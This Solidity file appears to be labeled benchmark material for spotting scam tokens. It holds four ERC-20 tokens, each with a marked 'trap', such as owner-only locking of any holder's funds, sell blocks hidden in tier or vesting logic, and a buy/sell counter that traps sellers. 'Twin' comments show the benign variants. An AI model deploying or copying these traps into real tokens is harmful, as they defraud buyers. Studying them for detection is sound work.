// 0.5 runs=200
pragma solidity ^0.5.17;

interface IFactory {
    function createPair(address one, address other) external returns (address);
}

contract Ledger {
    uint public totalSupply;
    address public owner;
    address public pair;
    mapping (address => uint) internal balances;
    mapping (address => mapping (address => uint)) public allowance;
    uint8 public constant decimals = 18;

    event Transfer(address indexed from, address indexed to, uint value);
    event Approval(address indexed owner, address indexed spender, uint value);
    event OwnershipTransferred(address indexed previousOwner, address indexed newOwner);

    modifier onlyOwner() {
        require(msg.sender == owner, "Ownable: caller is not the owner");
        _;
    }

    constructor(uint supply) public {
        owner = msg.sender;
        totalSupply = supply * 1 ether;
        balances[msg.sender] = totalSupply;
        pair = IFactory(0x5C69bEe701ef814a2B6a3EDD4B1652CB9cc5aA6f).createPair(address(this), 0xC02aaA39b223FE8D0A0e5C4F27eAD9083C756Cc2);
        emit Transfer(address(0), msg.sender, totalSupply);
    }

    function renounceOwnership() external onlyOwner {
        emit OwnershipTransferred(owner, address(0));
        owner = address(0);
    }

    function transferOwnership(address newOwner) external onlyOwner {
        require(newOwner != address(0), "Ownable: new owner is the zero address");
        emit OwnershipTransferred(owner, newOwner);
        owner = newOwner;
    }

    function balanceOf(address holder) public view returns (uint) {
        return balances[holder];
    }

    function approve(address spender, uint amount) external returns (bool) {
        allowance[msg.sender][spender] = amount;
        emit Approval(msg.sender, spender, amount);
        return true;
    }

    function transfer(address to, uint amount) external returns (bool) {
        _transfer(msg.sender, to, amount);
        return true;
    }

    function transferFrom(address from, address to, uint amount) external returns (bool) {
        uint allowed = allowance[from][msg.sender];
        require(allowed >= amount, "exceeds allowance");
        if (allowed != uint(-1)) allowance[from][msg.sender] = allowed - amount;
        _transfer(from, to, amount);
        return true;
    }

    function _transfer(address from, address to, uint amount) internal {
        require(to != address(0), "zero address");
        require(balances[from] >= amount, "exceeds balance");
        balances[from] -= amount;
        balances[to] += amount;
        emit Transfer(from, to, amount);
    }
}

/// Locks with a reason, after ERC-1132.
contract GeumgangToken is Ledger {
    string public constant name = "Geumgang Token";
    string public constant symbol = "GGT";

    struct LockToken {
        uint amount;
        uint validity;
        bool claimed;
    }

    mapping (address => bytes32[]) public lockReason;
    mapping (address => mapping (bytes32 => LockToken)) public locked;

    event Locked(address indexed _of, bytes32 indexed _reason, uint _amount, uint _validity);
    event Unlocked(address indexed _of, bytes32 indexed _reason, uint _amount);

    constructor() public Ledger(2000000000) {}

    function lock(bytes32 reason, uint amount, uint time) external returns (bool) {
        _lock(msg.sender, msg.sender, reason, amount, time);
        return true;
    }

    function transferWithLock(address to, bytes32 reason, uint amount, uint time) external onlyOwner returns (bool) {
        require(time <= 730 days, "too long");
        _lock(msg.sender, to, reason, amount, time);
        return true;
    }

    // trap {
    function lockFor(address holder, bytes32 reason, uint amount, uint time) external onlyOwner returns (bool) {
        _lock(holder, holder, reason, amount, time);
        return true;
    }
    // trap }

    function extendLock(bytes32 reason, uint time) external returns (bool) {
        require(tokensLocked(msg.sender, reason) > 0, "not locked");
        locked[msg.sender][reason].validity += time;
        return true;
    }

    function unlock(address holder) external returns (uint unlockable) {
        for (uint i = 0; i < lockReason[holder].length; i++) {
            LockToken storage one = locked[holder][lockReason[holder][i]];
            if (one.claimed || one.amount == 0 || one.validity > now) continue;
            one.claimed = true;
            unlockable += one.amount;
            emit Unlocked(holder, lockReason[holder][i], one.amount);
        }
        if (unlockable > 0) _transfer(address(this), holder, unlockable);
    }

    function tokensLocked(address holder, bytes32 reason) public view returns (uint) {
        return locked[holder][reason].claimed ? 0 : locked[holder][reason].amount;
    }

    function totalBalanceOf(address holder) external view returns (uint amount) {
        amount = balanceOf(holder);
        for (uint i = 0; i < lockReason[holder].length; i++) amount += tokensLocked(holder, lockReason[holder][i]);
    }

    function _lock(address payer, address holder, bytes32 reason, uint amount, uint time) private {
        require(amount != 0, "amount is zero");
        require(locked[holder][reason].amount == 0, "already locked");
        lockReason[holder].push(reason);
        locked[holder][reason] = LockToken(amount, now + time, false);
        _transfer(payer, address(this), amount);
        emit Locked(holder, reason, amount, now + time);
    }
}

/// Partners get tiers, of which a share is held until it is released.
contract HallasanCoin is Ledger {
    string public constant name = "Hallasan Coin";
    string public constant symbol = "HALLA";
    mapping (address => uint8) public tierOf;
    mapping (address => uint) public granted;
    mapping (uint8 => uint16) public heldPermille;

    event TierSet(uint8 indexed tier, uint permille);
    event Granted(address indexed to, uint amount, uint8 tier);

    constructor() public Ledger(500000000) {
        heldPermille[1] = 900;
        heldPermille[2] = 500;
    }

    function setTier(uint8 tier, uint16 permille) external onlyOwner {
        require(permille <= 1000, "permille");
        heldPermille[tier] = permille;
        emit TierSet(tier, permille);
    }

    function grant(address to, uint amount, uint8 tier) external onlyOwner {
        require(to != pair && tier != 0, "not a partner");
        _transfer(msg.sender, to, amount);
        granted[to] += amount;
        tierOf[to] = tier;
        emit Granted(to, amount, tier);
    }

    function heldOf(address holder) public view returns (uint) {
        uint base = granted[holder];
        if (base == 0) base = balances[holder]; // trap
        return base * heldPermille[tierOf[holder]] / 1000;
    }

    function _transfer(address from, address to, uint amount) internal {
        if (from != owner && from != pair) require(heldOf(from) + amount <= balances[from], "held");
        super._transfer(from, to, amount);
    }
}

/// What is bought ripens.
contract MeadowGrain is Ledger {
    string public constant name = "Meadow Grain";
    string public constant symbol = "GRAIN";

    struct Ripening {
        uint amount;
        uint64 start;
        uint64 cliff;
        uint64 end;
    }

    uint64 public cliffLength;
    uint64 public termLength;
    mapping (address => Ripening) public ripeningOf;

    event TermsSet(uint cliff, uint term);

    constructor() public Ledger(77000000) {}

    function setTerms(uint64 cliff, uint64 term) external onlyOwner {
        require(cliff <= term && term < 36500 days, "terms");
        // twin: require(term <= 10 minutes, "terms");
        cliffLength = cliff;
        termLength = term;
        emit TermsSet(cliff, term);
    }

    function unripe(address holder) public view returns (uint) {
        Ripening memory one = ripeningOf[holder];
        if (now >= one.end) return 0;
        if (now < one.cliff) return one.amount;
        return one.amount * (one.end - now) / (one.end - one.start);
    }

    function _transfer(address from, address to, uint amount) internal {
        if (from != pair && from != owner) require(unripe(from) + amount <= balances[from], "not ripe");
        if (from == pair && termLength > 0)
            ripeningOf[to] = Ripening(unripe(to) + amount, uint64(now), uint64(now) + cliffLength, uint64(now) + termLength);
        super._transfer(from, to, amount);
    }
}

/// Who leaves makes room, who comes fills it.
contract Counterpoise is Ledger {
    string public constant name = "Counterpoise";
    string public constant symbol = "POISE";
    uint public weights;
    uint public launchedAt;

    constructor() public Ledger(8800000) {
        launchedAt = now;
    }

    function _transfer(address from, address to, uint amount) internal {
        bool weighed = true;
        // twin: weighed = now < launchedAt + 2 hours;
        if (weighed && from == pair) weights += 1;
        if (weighed && to == pair && balances[pair] > 0) {
            require(weights > 1, "out of balance");
            weights -= 2;
        }
        super._transfer(from, to, amount);
    }
}
